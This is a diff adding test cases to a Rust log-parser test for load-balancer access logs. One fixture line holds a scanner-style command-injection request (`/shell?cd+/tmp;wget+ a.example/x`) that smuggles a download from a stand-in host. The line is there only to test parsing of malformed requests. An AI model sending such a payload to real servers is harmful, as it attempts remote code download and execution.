@@ -127,6 +127,25 @@ fn proxies_default_access_logs() {
         ),
         (some(r#""POST /api/payments""#), some(r#""504""#), None)
     );
+    // A request that is not `METHOD target HTTP/x` (a space in a scanner's target, an ALB's
+    // `"- http://lb:80-/ "`): the load balancer's status and time still count.
+    assert_eq!(
+        fields_of(
+            r#"app/my-lb/3011821a43ee0c5e 10.0.0.1:41542 - -1 -1 -1 400 - 233 390 "GET http://10.0.0.9:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "-""#
+        ),
+        (some(r#""GET /shell""#), some(r#""400""#), None)
+    );
+    assert_eq!(
+        fields_of(
+            r#"app/my-lb/abcd1234efgh5678 10.0.0.1:57273 10.0.1.5:80 0.000 0.004 0.000 200 200 0 272 "- http://lb.example.com:80-/ " "-""#
+        ),
+        (None, some(r#""200""#), some("4.0"))
+    );
+    // A quoted text that is no request, in no proxy's layout: nothing is made of it.
+    assert_eq!(
+        fields_of(r#"user "a b" logged in after 3 tries 200 times"#),
+        (None, None, None)
+    );
     // HAProxy: TR/Tw/Tc/Tr/Ta before the status, the request last.
     assert_eq!(
         fields_of(
